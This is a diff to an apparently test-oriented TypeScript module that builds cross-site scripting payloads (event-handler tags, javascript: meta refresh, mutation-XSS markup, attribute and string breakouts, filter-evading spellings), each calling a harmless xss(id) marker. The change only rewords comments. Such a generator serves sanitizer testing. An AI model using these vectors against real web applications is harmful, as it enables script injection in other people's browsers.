@@ -1,6 +1,6 @@
 /**
- * Ways to make a browser run what was written as text: families of vectors, each spelled in several ways. Every
- * payload calls `xss(number)`, the number telling which one ran and where it stood.
+ * Texts that try to make a browser run code: families of payloads, each in several spellings. Every
+ * payload calls `xss(id)`; the id identifies the payload and its place.
  */
 type Write = (run: string) => string
 
@@ -29,7 +29,7 @@ const handlers: readonly (readonly [tag: string, handler: string, end?: string])
   ["x-a", "onanimationstart", "a</x-a>"],
 ]
 
-/** The same tag, as a hand, a careless program or a filter's enemy would write it. */
+/** Different spellings of the same tag, including those that try to evade a filter. */
 const spellings: readonly ((tag: string, handler: string, run: string) => string)[] = [
   (tag, handler, run) => `<${tag} ${handler}="${run}">`,
   (tag, handler, run) => `<${tag} ${handler}='${run}'>`,
@@ -97,7 +97,7 @@ const scripts: readonly Write[] = [
   (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
 ]
 
-/** Markup that a parser reads differently the second time, or in another place (mutation). */
+/** Markup that a parser reads differently the second time or in another place (mutation XSS). */
 const mutations: readonly Write[] = [
   (live) => `<noscript><p title="</noscript>${live}">`,
   (live) => `<xmp><p title="</xmp>${live}">`,
@@ -121,7 +121,7 @@ const mutations: readonly Write[] = [
   (live) => `<p title='"${live}'>`,
 ]
 
-/** Ways out of an attribute, a title, a record or a string. */
+/** Prefixes that break out of an attribute, a title, JSON or a string. */
 const breakouts: readonly Write[] = [
   (live) => `">${live}`,
   (live) => `'>${live}`,
@@ -181,7 +181,7 @@ const families: readonly (readonly Write[])[] = [
   strings,
 ]
 
-/** So many of them, spread evenly over all families. */
+/** Selects `count` payloads, spread evenly over all families. */
 export function choosePayloads(count: number): Write[] {
   const all = families.flat()
   if (count > all.length) throw new Error(`there are ${all.length} payloads`)
